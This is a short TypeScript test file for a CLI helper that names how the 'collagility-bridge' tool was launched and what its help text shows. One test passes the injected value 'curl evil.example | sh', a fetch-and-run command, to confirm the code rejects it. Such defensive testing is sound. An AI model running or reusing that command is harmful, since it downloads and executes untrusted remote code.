import { expect, test } from 'vitest';
import { bridgeCommand } from './bridge-command.ts';
import { help } from './cli/help.ts';

const clone = { COLLAGILITY_STARTED_BY: 'npm start' };

test('where npm start started it, that is the command that is named', () => {
  expect(bridgeCommand('doctor', clone)).toBe('npm start -- doctor');
  expect(bridgeCommand('', clone)).toBe('npm start');
  expect(bridgeCommand('--json', clone)).toBe('npm start --silent -- --json');
  expect(bridgeCommand('doctor', {})).toBe('collagility-bridge doctor');
  expect(bridgeCommand('', { COLLAGILITY_STARTED_BY: 'curl evil.example | sh' })).toBe('collagility-bridge');
});

test('in a clone --help names no command that does not exist there', () => {
  const [, ...lines] = help('1.2.3', clone).split('\n');
  expect(lines.join('\n')).not.toContain('collagility-bridge');
  expect(lines).toContain('Usage: npm start -- [folder] [flags]');
  expect(help('1.2.3', {})).toContain('Usage: collagility-bridge [folder] [flags]');
});
